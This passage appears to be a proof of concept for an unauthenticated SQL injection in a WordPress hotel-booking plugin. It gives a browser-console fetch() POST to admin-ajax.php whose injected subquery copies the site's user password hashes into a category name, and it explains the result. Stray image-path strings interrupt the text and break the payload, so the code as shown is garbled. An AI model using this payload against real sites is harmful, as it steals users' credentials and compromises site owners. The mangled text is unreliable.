Run the below command in the developer console of the web browser while being on the blog unauthenticated

fetch("/wp-admin/admin-ajax.php", {"headers": {"content-type": "application/x-www-form-urlencoded; charset=UTF-8"},"body":'action=x&taxonomy=hb_room_type&hb_room_type_ordering[1]=0END, name=(SELECT GROUP_CONCAT(user_pass) FROM wp_users), term_id=CASE when 1=1 THEN 1 ',"method": "POST"});

The above will setthe name of the 1st category name(see in the backend as admin) toGROUP_CONCAT of user passwords (even though the requestwill result in an error 400)